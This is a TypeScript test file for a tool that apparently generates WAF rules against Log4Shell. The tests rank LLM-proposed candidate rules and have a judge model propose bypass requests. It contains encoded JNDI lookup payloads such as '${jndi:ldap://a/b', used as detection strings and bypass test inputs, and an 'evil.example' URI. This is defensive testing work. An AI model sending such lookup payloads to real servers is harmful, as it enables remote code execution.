// Issue 15 item 4: several candidates at once, across providers and temperatures, each through the
// checks and ranked (proven blocking, benign hits, then WCU); and a judge model that attacks the
// chosen rule, whose requests become tests: upheld, corrected by one more round, vetoed, or
// unavailable. Real generation loop, real provider packages, the local fake provider server.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { BuiltinEngine } from '../../src/generation/builtin/index.js';
import { createEngine, LlmEngine } from '../../src/generation/llm/index.js';
import { parseJudgeSpec } from '../../src/generation/llm/judge.js';
import { runGeneration } from '../../src/generation/loop.js';
import type { Judge } from '../../src/generation/types.js';
import { createLlmClient, loadLlmConfig } from '../../src/llm/index.js';
import type { Statement } from '../../src/waf/schema.js';
import { startFakeLlm, type FakeLlm } from '../support/fake-llm/server.js';
import { GOOD, NO_DECODE, log4shellInput } from '../generation/llm/fixtures.js';
import { fakeEnv } from './helpers.js';

let fake: FakeLlm;
beforeAll(async () => {
  fake = await startFakeLlm();
});
afterAll(() => fake.close());
beforeEach(() => fake.reset());

const answer = (statement: Statement) => ({
  json: { rationale: 'Match the lookup, decoded, wherever it travels.', statement },
  usage: { inputTokens: 1000, outputTokens: 200 },
});

const goodOr = (GOOD as { OrStatement: { Statements: Statement[] } }).OrStatement.Statements;
/** GOOD and one more (passing) statement: the same outcome at a higher WCU. */
const GOOD_WIDER: Statement = {
  OrStatement: {
    Statements: [
      ...goodOr,
      {
        ByteMatchStatement: {
          SearchString: '${jndi:rmi:',
          FieldToMatch: {
            Cookies: { MatchPattern: { All: {} }, MatchScope: 'VALUE', OversizeHandling: 'MATCH' },
          },
          TextTransformations: [{ Priority: 0, Type: 'LOWERCASE' }],
          PositionalConstraint: 'CONTAINS',
        },
      },
    ],
  },
};
/** GOOD with the query string decoded three times: blocks a triple-encoded lookup too. */
const GOOD_TRIPLE: Statement = JSON.parse(
  JSON.stringify(GOOD).replace(
    '{"QueryString":{}},"TextTransformations":[{"Priority":0,"Type":"URL_DECODE_UNI"},{"Priority":1,"Type":"URL_DECODE_UNI"}',
    '{"QueryString":{}},"TextTransformations":[{"Priority":0,"Type":"URL_DECODE_UNI"},{"Priority":1,"Type":"URL_DECODE_UNI"},{"Priority":5,"Type":"URL_DECODE_UNI"}',
  ),
) as Statement;

/** `${jndi:` URL-encoded three times: two URL_DECODE_UNI leave `%24%7B`. */
const TRIPLE = '/api/login?user=%252524%25257Bjndi:ldap://a/b';

const judgeAnswer = (bypasses: object[], legitimate: object[]) => ({
  json: { bypasses, legitimate },
  usage: { inputTokens: 800, outputTokens: 150 },
});
const bypass = { method: 'GET', uri: TRIPLE, why: 'decoded twice only' };
const legit = { method: 'GET', uri: '/', headers: [['Accept', 'text/html']], why: 'home page' };

const client = () => createLlmClient(loadLlmConfig(fakeEnv(fake)));

function judgeOn(spec: string): Judge {
  const choice = createEngine({ mode: 'llm', client: client() });
  return choice.judgeFor!(spec);
}

describe('candidates', () => {
  it('asks each provider of the chain at its own temperature, checks all three and keeps the best, then the cheapest', async () => {
    fake.script('openai', answer(NO_DECODE));
    fake.script('anthropic', answer(GOOD_WIDER));
    fake.script('google', answer(GOOD));
    const input = { ...log4shellInput(), candidates: 3 };
    const { rule, report } = await runGeneration(input, new LlmEngine(client()), {
      maxAttempts: 1,
      fallback: new BuiltinEngine(),
    });
    // One call to each: candidate i starts at link i of the chain.
    expect(fake.requestsFor('openai')).toHaveLength(1);
    expect(fake.requestsFor('anthropic')).toHaveLength(1);
    expect(fake.requestsFor('google')).toHaveLength(1);
    const [a] = fake.requestsFor('anthropic');
    const [g] = fake.requestsFor('google');
    expect((a!.body as { temperature?: number }).temperature).toBe(0.7);
    expect((g!.body as { generationConfig?: { temperature?: number } }).generationConfig?.temperature).toBe(
      1,
    );
    expect((fake.requestsFor('openai')[0]!.body as { temperature?: number }).temperature).toBeUndefined();

    expect(report.verdict).toBe('proven');
    expect(rule.Statement).toEqual(GOOD);
    expect(report.provider).toBe('google');
    const cands = report.candidates!;
    expect(cands).toHaveLength(3);
    const by = (p: string) => cands.find((c) => c.provider === p)!;
    expect(by('openai')).toMatchObject({ verdict: 'failed', chosen: false });
    expect(by('openai').variantsBlocked).toBeLessThan(by('openai').variants);
    expect(by('anthropic')).toMatchObject({ verdict: 'proven', chosen: false, temperature: 0.7 });
    expect(by('google')).toMatchObject({ verdict: 'proven', chosen: true, temperature: 1 });
    expect(by('google').wcu).toBeLessThan(by('anthropic').wcu);
    // Every call's tokens are counted.
    expect(report.usage).toEqual({ inputTokens: 3000, outputTokens: 600 });
  });

  it('one candidate (the default) keeps the report as it was: no candidates list', async () => {
    fake.script('openai', answer(GOOD));
    const { report } = await runGeneration(log4shellInput(), new LlmEngine(client()), { maxAttempts: 1 });
    expect(report.candidates).toBeUndefined();
    expect(fake.requests).toHaveLength(1);
  });
});

describe('judge', () => {
  const run = (judge: Judge, maxAttempts = 1) =>
    runGeneration(log4shellInput(), new LlmEngine(client()), {
      maxAttempts,
      fallback: new BuiltinEngine(),
      judge,
    });

  it('upholds a rule that blocks its bypasses and lets its legitimate requests through', async () => {
    fake.script('openai', answer(GOOD));
    fake.script(
      'google',
      judgeAnswer(
        [{ method: 'GET', uri: '/api/login?user=%24%7BJNDI:ldap://a/b%7D', why: 'encoded' }],
        [legit],
      ),
    );
    const { report } = await run(judgeOn('google:gemini-2.5-flash'));
    expect(report.judge).toMatchObject({
      judge: 'google:gemini-2.5-flash',
      provider: 'google',
      model: 'gemini-2.5-flash',
      outcome: 'upheld',
      bypassesProposed: 1,
      benignProposed: 1,
      bypassesMissed: [],
      benignBlocked: [],
    });
    expect(report.verdict).toBe('proven');
    // The judge's requests are counted with the variants and the benign ones.
    expect(report.tests.benign.total).toBe(log4shellInput().benign.length + 1);
    // The judge was asked on its own model, and told the rule is data.
    const [req] = fake.requestsFor('google');
    expect(req!.path).toContain('gemini-2.5-flash');
    expect(JSON.stringify(req!.body)).toContain('untrusted-data');
    expect(report.usage.inputTokens).toBe(1800);
  });

  it('a bypass the rule misses asks for one more round; a rule that blocks it is kept (corrected)', async () => {
    fake.script('openai', answer(GOOD), answer(GOOD_TRIPLE));
    fake.script('google', judgeAnswer([bypass], []));
    const { rule, report } = await run(judgeOn('google'));
    expect(report.judge).toMatchObject({
      outcome: 'corrected',
      bypassesMissed: ['judge-bypass-1.cve-2021-44228'],
    });
    expect(rule.Statement).toEqual(GOOD_TRIPLE);
    expect(report.verdict).toBe('proven');
    expect(report.attempts).toBe(2);
    expect(report.candidates!.find((c) => c.chosen)).toMatchObject({ round: 'judge', attempt: 2 });
    // The correction prompt showed the judge's bypass, fenced.
    const second = JSON.stringify(fake.requestsFor('openai')[1]!.body);
    expect(second).toContain('%252524%25257Bjndi');
  });

  it('no rule that survives the judge is a veto: the verdict is failed and says why', async () => {
    fake.script('openai', answer(GOOD), answer(GOOD));
    fake.script(
      'google',
      judgeAnswer([bypass], [{ method: 'GET', uri: '/docs/search?q=%24%7Bjndi%3A', why: 'a docs search' }]),
    );
    const { report } = await run(judgeOn('google'));
    expect(report.judge).toMatchObject({
      outcome: 'vetoed',
      bypassesMissed: ['judge-bypass-1.cve-2021-44228'],
      benignBlocked: ['judge-legitimate-1.cve-2021-44228'],
    });
    expect(report.verdict).toBe('failed');
    expect(report.passed).toBe(false);
    expect(report.reasons.join('\n')).toMatch(/bypass request\(s\) the judge proposed/);
    expect(report.reasons.join('\n')).toMatch(/legitimate request\(s\) the judge proposed/);
  });

  it('a judge that does not answer leaves the rule on its checks (unavailable, no provider text)', async () => {
    fake.script('openai', answer(GOOD));
    fake.script('google', { status: 500, message: 'internal at 10.0.0.7:8080' });
    const { report } = await run(judgeOn('google'));
    expect(report.verdict).toBe('proven');
    expect(report.judge).toMatchObject({ outcome: 'unavailable', error: 'AllProvidersFailed' });
    expect(JSON.stringify(report)).not.toContain('10.0.0.7');
  });

  it('answers outside the bounds are refused as invalid output (not run as tests)', async () => {
    fake.script('openai', answer(GOOD));
    fake.script('google', judgeAnswer([{ method: 'GET', uri: 'http://evil.example/', why: 'absolute' }], []));
    const { report } = await run(judgeOn('google'));
    expect(report.judge?.outcome).toBe('unavailable');
    expect(report.verdict).toBe('proven');
  });

  it('judge specs: provider, provider:model, named endpoints; unknown providers refused', () => {
    expect(parseJudgeSpec('anthropic')).toEqual({ provider: 'anthropic' });
    expect(parseJudgeSpec('bedrock:global.anthropic.claude-haiku-4-5-20251001-v1:0')).toEqual({
      provider: 'bedrock',
      model: 'global.anthropic.claude-haiku-4-5-20251001-v1:0',
    });
    expect(parseJudgeSpec('openai-compatible:vllm:qwen2.5')).toEqual({
      provider: 'openai-compatible:vllm',
      model: 'qwen2.5',
    });
    expect(() => parseJudgeSpec('mystery:x')).toThrow(/unknown judge provider/);
    expect(() => parseJudgeSpec('openai:bad model')).toThrow(/not a model id/);
    const choice = createEngine({ mode: 'llm', client: client() });
    expect(() => choice.judgeFor!('bedrock')).toThrow(/not in the configured chain/);
  });
});
